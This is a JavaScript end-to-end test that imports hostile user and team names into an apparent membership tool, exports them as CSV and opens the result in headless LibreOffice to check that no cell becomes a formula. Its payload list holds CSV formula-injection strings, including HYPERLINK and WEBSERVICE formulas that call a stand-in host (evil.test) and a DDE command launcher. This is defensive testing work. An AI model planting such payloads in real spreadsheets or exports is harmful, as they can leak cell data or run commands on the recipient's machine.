// S-47, judged by a spreadsheet: opens exports in LibreOffice and looks at what it shows. `node end2end/judges/spreadsheet.mjs`
//
// People and teams are called what spreadsheets run. Each export is opened as it comes, as files of commas, and as files
// of semicolons and of tabs, which LibreOffice proposes too. Every cell has to be text, and none a formula; the same names
// written into a file by themselves have to be formulas, or the judge sees nothing.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { promisify } from 'node:util';
import { startMuster } from '../support/muster.mjs';
import { demo } from '../support/cast.mjs';

const run = promisify(execFile);

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?"&A1,"Ana Lima")',
  '=WEBSERVICE("http://evil.test")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  '＋1+1',
  'Ana;=1+1',
  'Ana, =1+1',
  '"=1+1"',
];
/** How files are read, as LibreOffice's tokens: which characters part cells, then quotes by `"`, UTF-8, from line 1. */
const WAYS = { commas: '44', semicolons: '59', tabs: '9', 'commas, semicolons and tabs': '44/59/9' };

const folder = await mkdtemp(join(tmpdir(), 'muster-judge-'));

/** The sheet as LibreOffice has it: its cells' values by type, and its formulas. */
async function opened(file, separators) {
  const options = [
    '--headless',
    `-env:UserInstallation=file://${folder}/profile`,
    `--infilter=Text - txt - csv (StarCalc):${separators},34,76,1,,0,false,true,false`,
    '--convert-to', 'fods', '--outdir', `${folder}/sheets`, file,
  ];
  await run('soffice', options, { timeout: 120_000 });
  const sheet = await readFile(join(folder, 'sheets', `${basename(file, '.csv')}.fods`), 'utf8');
  const cells = sheet.match(/<table:table-cell [^>]*office:value-type="[^"]*"[^>]*>/g) ?? [];
  const formulas = [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula);
  const texts = [...sheet.matchAll(/<text:p[^>]*>([^]*?)<\/text:p>/g)].map(([, text]) => text.replace(/<[^>]+>/g, ''));
  return { cells, formulas, texts };
}

const muster = await startMuster({ prepare: demo(30) });
try {
  const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
  const bare = join(folder, 'bare.csv');
  await writeFile(bare, DANGEROUS.map((name) => `${quoted(name)}\r\n`).join(''));
  const seen = await opened(bare, WAYS.commas);
  assert.ok(seen.formulas.length >= 4, `LibreOffice runs what is not defused, or this judges nothing: ${seen.formulas}`);

  const list = join(muster.folder, 'list.csv');
  const line = (name, at) => [`person${at}@evil.test`, quoted(name), 'member', quoted(name.replaceAll(/[;,]/g, ' '))].join(',');
  await writeFile(list, ['email,name,role,teams', ...DANGEROUS.map(line)].join('\n'));
  await muster.run('import', list, '--org', 'demo', '--apply', '--create-teams', '--without-mails');

  const file = join(folder, 'export.csv');
  await writeFile(file, await muster.run('export', '--org', 'demo', '--format', 'csv'));
  for (const [name, separators] of Object.entries(WAYS)) {
    const { cells, formulas, texts } = await opened(file, separators);
    assert.deepEqual(formulas, [], `read by ${name}`);
    assert.ok(cells.length > 30, `read by ${name}: ${cells.length} cells`);
    // Numbers and dates are what LibreOffice makes of whole cells that look like one; the export has none of its own.
    const other = cells.filter((cell) => !/office:value-type="(string|date|float)"/.test(cell));
    assert.deepEqual(other, [], `read by ${name}`);
    if (separators === WAYS.commas) {
      assert.ok(texts.includes('&apos;=1+1') || texts.includes("'=1+1"), 'the name is there, and is text');
    }
    console.log(`read by ${name}: ${cells.length} cells, no formula`);
  }
} finally {
  await muster.stop();
  await rm(folder, { recursive: true, force: true });
}
